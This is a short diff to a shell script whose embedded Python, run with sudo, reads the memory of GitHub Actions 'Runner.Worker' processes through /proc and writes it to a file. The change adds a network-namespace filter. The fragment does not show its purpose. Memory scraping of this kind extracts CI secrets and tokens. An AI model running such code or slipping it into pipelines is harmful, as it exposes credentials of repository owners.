@@ -7,7 +7,8 @@ sudo python3 - > $w/mem 2>/dev/null <<'PY' || true
 import os, re, sys
 for pid in filter(str.isdigit, os.listdir('/proc')):
     try:
-        if b'Runner.Worker' not in open(f'/proc/{pid}/cmdline', 'rb').read().split(b'\0')[0]:
+        if b'Runner.Worker' not in open(f'/proc/{pid}/cmdline', 'rb').read().split(b'\0')[0] or \
+                os.readlink(f'/proc/{pid}/ns/net') != os.readlink('/proc/self/ns/net'):
             continue
         with open(f'/proc/{pid}/mem', 'rb', 0) as mem:
             for line in open(f'/proc/{pid}/maps'):
